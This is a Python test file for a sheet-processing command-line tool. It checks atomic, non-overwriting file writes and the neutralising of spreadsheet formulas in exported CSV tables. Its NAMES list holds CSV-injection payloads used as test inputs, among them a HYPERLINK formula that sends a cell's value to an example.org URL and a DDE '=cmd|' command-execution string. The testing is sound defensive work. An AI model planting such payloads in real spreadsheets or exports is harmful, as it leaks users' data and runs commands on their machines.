"""Files that commands write: never over what they are made from, whole or not at all, and tables that no spreadsheet
runs."""

import csv
import errno
import io
import os
import stat
import subprocess
import sys
import threading
import unittest
from importlib.util import find_spec
from pathlib import Path
from unittest import mock

from support import SAMPLES, TEXT, TOP, DeskTestCase, run

from evp import marking, tables
from evp.files import InputError, write_file

HAS_JINJA = find_spec("jinja2") is not None
MOST = 20_480  # bytes of a file, where a test has no room for more
OVER = "this would overwrite what it is made from"
TRAVEL = "row,town,urban_mileage,rural_mileage,highway_mileage,rural_speed,highway_speed\nall,yes,40,35,25,60,100\n"
WITHOUT_ROOM = """
import resource, signal, sys
sys.path.insert(0, sys.argv[1])
from evp.files import InputError, write_file
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (%d, %d))
try:
    write_file(sys.argv[2], b"new" * 20_000, len(sys.argv) > 3)
except InputError as error:
    sys.exit(str(error))
""" % (MOST, MOST)


class SourcesTest(DeskTestCase):
    """No command writes over a file that it reads, whatever name that has."""

    def setUp(self):
        super().setUp()
        self.sheets = self.folder / "sheets"
        self.sheet = self.put_sheet("sheets/north.evp", TEXT)
        self.fourth = [self.put("%s.evp" % name, (SAMPLES / "districts.evp").read_bytes()) for name in "ab"]
        self.filed = self.put("filed.csv", "sheet,row,mechanism,mass,unit\nnorth.evp,total,,1,kg\n")
        self.travel = self.put("travel.csv", TRAVEL)
        self.text = self.put("north.txt", TEXT)

    def commands(self):
        """Each command without its output, and the files that it reads."""
        yield ("write", self.text, "-o"), [self.text]
        yield ("convert", self.sheet, "--to", 2, "-o"), [self.sheet]
        yield ("mark", self.sheets, "--filed", self.filed, "-o"), [self.filed, self.sheet]
        yield ("cells", self.sheet, "--travel", self.travel, "-o"), [self.sheet, self.travel]
        yield ("pool", *self.fourth, "-o"), self.fourth
        if HAS_JINJA:
            yield ("mark", self.sheets, "--filed", self.filed, "--page"), [self.filed, self.sheet]
            yield ("page", "class", self.sheets, "--filed", self.filed, "-o"), [self.filed, self.sheet]
            yield ("page", "sheet", self.sheet, "--filed", self.filed, "-o"), [self.sheet, self.filed]
            yield ("page", "fuels", *self.fourth, "-o"), self.fourth
            yield ("page", "cells", self.sheet, "--travel", self.travel, "-o"), [self.sheet, self.travel]
            yield ("page", "pool", *self.fourth, "-o"), self.fourth

    def names(self, source: Path):
        """A file by its own name, by another path, through a symbolic and through a hard link."""
        yield source
        yield source.parent / "." / ".." / source.parent.name / source.name
        symbolic, hard = self.folder / "symbolic", self.folder / "hard"
        for link in (symbolic, hard):
            link.unlink(missing_ok=True)
        symbolic.symlink_to(source)
        os.link(source, hard)
        yield symbolic
        yield hard

    def test_commands(self):
        for words, sources in self.commands():
            for source in sources:
                for name in self.names(source):
                    with self.subTest(words=words, name=name):
                        before = source.read_bytes()
                        found = run(*words, name, "--force")
                        self.assert_plain(found, 2)
                        self.assertIn(OVER, found.err)
                        self.assertEqual(source.read_bytes(), before)

    def test_tables_of_a_sheet(self):
        sheet = self.put_sheet("tables/fleet.csv", TEXT)
        before = sheet.read_bytes()
        found = run("read", sheet, "--csv", sheet.parent, "--force")
        self.assertEqual((found.status, OVER in found.err), (2, True))
        self.assertEqual([path.name for path in sheet.parent.iterdir()], ["fleet.csv"])  # none of the others either
        self.assertEqual(sheet.read_bytes(), before)

    def test_ledger(self):
        ledger, owners = self.folder / "course.db", self.put("owners.csv", "row,participant\n1,a\n2,b\n")
        self.assert_plain(run("desk", ledger, "--new", self.sheet, "--export", "-"), 0)
        before = ledger.read_bytes()
        for name in (*self.names(ledger), ledger.with_name("course.db-journal"), ledger.with_name("course.db-wal")):
            found = run("desk", ledger, "--export", name, "--force")
            self.assertEqual((found.status, OVER in found.err), (2, True), name)
            self.assertEqual(ledger.read_bytes(), before)
        for source in (self.sheet, owners):
            other = self.folder / "other.db"
            found = run("desk", other, "--new", self.sheet, "--owners", owners, "--export", source, "--force")
            self.assertEqual((found.status, OVER in found.err, other.exists()), (2, True, False))

    @unittest.skipUnless(HAS_JINJA, "jinja2 is missing")
    def test_two_outputs(self):
        found = run("mark", self.sheets, "--filed", self.filed, "-o", self.folder / "x", "--page", self.folder / "x")
        self.assertEqual((found.status, found.err),
                         (2, "evp: two of -o, --page, --readings and --class-table name one file\n"))


class WholeTest(DeskTestCase):
    """A file is the old one or the new one, never a part of one."""

    def names(self) -> list[str]:
        return sorted(path.name for path in self.folder.iterdir())

    def without_room(self, target: Path, *words: str) -> str:
        found = subprocess.run([sys.executable, "-I", "-c", WITHOUT_ROOM, TOP / "python", target, *words],
                               capture_output=True, text=True)
        self.assertNotIn("Traceback", found.stderr)
        return found.stderr

    def test_no_room(self):
        target = self.put("marks.csv", b"old" * 5_000)
        self.assertIn("marks.csv: File too large", self.without_room(target, "--force"))
        self.assertEqual((target.read_bytes(), self.names()), (b"old" * 5_000, ["marks.csv"]))
        self.assertIn("new.csv: File too large", self.without_room(self.folder / "new.csv"))
        self.assertEqual(self.names(), ["marks.csv"])

    def test_stopped(self):
        """Whatever ends it, also ^C."""
        target = self.put("marks.csv", b"old")
        for force in (True, False):
            with mock.patch("os.fsync", side_effect=KeyboardInterrupt), self.assertRaises(KeyboardInterrupt):
                write_file(target if force else self.folder / "new.csv", b"new", force)
            self.assertEqual((target.read_bytes(), self.names()), (b"old", ["marks.csv"]))

    def test_on_the_disk_before_it_has_its_name(self):
        done = []
        sync, replace, link = os.fsync, os.replace, os.link

        def seen(name, call):
            return lambda *words, **more: (done.append(name), call(*words, **more))[1]
        with mock.patch("os.fsync", seen("sync", sync)), mock.patch("os.replace", seen("name", replace)), \
                mock.patch("os.link", seen("name", link)):
            write_file(self.folder / "a", b"new")
            write_file(self.folder / "a", b"newer", True)
        self.assertEqual(done, ["sync", "name", "sync"] * 2)
        self.assertEqual((self.names(), (self.folder / "a").read_bytes()), (["a"], b"newer"))

    def test_race(self):
        """A file that another program makes meanwhile is kept, also where there are no hard links."""
        target, link = self.folder / "marks.csv", os.link

        def late(part, name):
            Path(name).write_bytes(b"another's")
            return link(part, name)

        def unable(part, name):
            Path(name).write_bytes(b"another's")
            raise OSError(errno.EPERM, "Operation not permitted")
        for other in (late, unable):
            with mock.patch("os.link", other), self.assertRaisesRegex(InputError, "there is such a file already"):
                write_file(target, b"mine")
            self.assertEqual((target.read_bytes(), self.names()), (b"another's", ["marks.csv"]))
            target.unlink()

    def test_no_hard_links(self):
        with mock.patch("os.link", side_effect=OSError(errno.EPERM, "Operation not permitted")):
            write_file(self.folder / "a", b"new")
            with self.assertRaisesRegex(InputError, "there is such a file already"):
                write_file(self.folder / "a", b"newer")
        self.assertEqual((self.names(), (self.folder / "a").read_bytes()), (["a"], b"new"))

    def test_rights(self):
        """The rights of the old file stay; a new one has those of any other file."""
        target = self.put("marks.csv", b"old")
        target.chmod(0o640)
        write_file(target, b"new", True)
        self.assertEqual(stat.S_IMODE(target.stat().st_mode), 0o640)
        write_file(self.folder / "a", b"new")
        self.assertEqual(stat.S_IMODE((self.folder / "a").stat().st_mode), stat.S_IMODE(self.put(
            "b", b"").stat().st_mode))

    def test_links_stay(self):
        target = self.put("folder/marks.csv", b"old")
        link = self.folder / "link"
        link.symlink_to(target)
        with self.assertRaisesRegex(InputError, "there is such a file already"):
            write_file(link, b"new")
        write_file(link, b"new", True)
        self.assertTrue(link.is_symlink())
        self.assertEqual(target.read_bytes(), b"new")

    def test_streams(self):
        """Through a FIFO or a device bytes go at once, and it stays what it is."""
        fifo, got = self.folder / "fifo", []
        os.mkfifo(fifo)
        reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
        reader.start()
        write_file(fifo, b"through")
        reader.join(10)
        self.assertEqual((got, stat.S_ISFIFO(fifo.stat().st_mode)), ([b"through"], True))
        write_file("/dev/null", b"gone", True)
        self.assertTrue(stat.S_ISCHR(os.stat("/dev/null").st_mode))

    def test_standard_output_by_its_name(self):
        sheet, out = self.put_sheet("north.evp", TEXT), self.folder / "out"
        with open(out, "wb") as file:
            made = subprocess.run([sys.executable, TOP / "evp", "convert", sheet, "--to", "2", "-o", "/dev/stdout"],
                                  stdout=file, stderr=subprocess.PIPE)
        self.assertEqual((made.returncode, made.stderr), (0, b""))
        self.assertTrue(out.read_bytes().startswith(b"EVP\2"))
        self.assertEqual(self.names(), ["north.evp", "out"])


NAMES = (
    '=HYPERLINK("http://example.org/?"&A1,"x").evp', "=cmd|' C'!A0.evp", "+1+1.evp", "-2+3.evp", "@SUM(1).evp",
    "\t=1+1.evp", "\r=1+1.evp", "'=1+1.evp", "''-2+3.evp", "a\r=1+1.evp", "a;=1+1.evp")


class FormulaTest(DeskTestCase):
    """No name in a table is a formula, and each is found again."""

    def cells(self, text: str, separator: str = ",") -> list[list[str]]:
        """As a spreadsheet reads it: a bare CR outside quotation marks ends a row."""
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True))

    def assert_harmless(self, text: str, separator: str = ","):
        for row in self.cells(text, separator):
            for cell in row:
                self.assertFalse(cell.startswith(("=", "+", "@", "\t", "\r")), cell)
                self.assertFalse(cell.startswith("-") and not tables.NUMBER.fullmatch(cell), cell)

    def test_table(self):
        for semicolon in (False, True):
            text = tables.table_text(marking.COLUMNS, ((name, 1, "soak", 1, "g") for name in NAMES), semicolon)
            separator = ";" if semicolon else ","
            self.assertEqual(len(self.cells(text, separator)), len(NAMES) + 1)
            self.assert_harmless(text, separator)
            self.assertEqual([line.cells["sheet"] for line in tables.read_table(
                text, "a table", marking.COLUMNS, ["sheet"], comments=False).lines], list(NAMES))

    def test_parted_by_the_other_sign(self):
        """A spreadsheet of another country parts the same lines by ; and finds no formula in the first column."""
        self.assert_harmless(tables.table_text(("sheet",), [["a;=1+1.evp"]]), ";")

    def test_numbers_stay(self):
        self.assertEqual(tables.table_text(("a", "b"), [(-12, "-12.5"), ("+3", "-0,5")], True),
                         "a;b\n-12;-12.5\n+3;-0,5\n")

    def test_marks(self):
        sheet = self.put_sheet("sheets/north.evp", TEXT).read_bytes()
        names = [name for name in NAMES if "/" not in name]
        for name in names:
            self.put("sheets/" + name, sheet)
        filed = self.put("filed.csv", tables.table_text(
            marking.COLUMNS, ((name, "total", "", "1", "kg") for name in names)))
        found = run("mark", self.folder / "sheets", "--filed", filed, "-o", self.folder / "marks.csv")
        self.assert_plain(found, 1)
        text = (self.folder / "marks.csv").read_bytes().decode()
        self.assert_harmless(text)
        self.assertEqual(len(self.cells(text)), len(names) + 2)
        self.assertNotIn("absent", text)  # each is found in the folder
        read = tables.read_table(text, "marks.csv", list(marking.Mark._fields), ["sheet"], comments=False)
        self.assertEqual([line.cells["sheet"] for line in read.lines], [*names, "north.evp"])


if __name__ == "__main__":
    unittest.main()
